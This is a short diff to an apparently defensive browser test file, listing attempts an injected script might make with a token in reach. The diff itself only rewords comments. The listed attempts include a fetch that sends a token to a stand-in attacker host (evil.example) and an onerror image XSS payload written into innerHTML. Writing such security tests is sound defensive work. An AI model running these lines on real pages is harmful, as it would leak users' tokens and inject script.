@@ -2,13 +2,13 @@ import { expect, test } from "../fixtures.ts";
 
 test.use({ isWatched: false });
 
-/** What an injected script would try, with the token within its reach. */
+/** What an injected script would try, with the token within reach. */
 const attempts: Record<string, () => unknown> = {
   "send the token elsewhere": () => fetch("https://evil.example/?token=stolen"),
   "turn text into HTML": () => {
     document.body.innerHTML = "<img src=x onerror=alert(1)>";
   },
-  // The debugger that runs this may evaluate text itself, a timer's callback may not.
+  // The debugger that runs this may evaluate text itself, but a timer's callback may not.
   "run text as code": () =>
     new Promise((resolve, reject) => {
       setTimeout(() => {
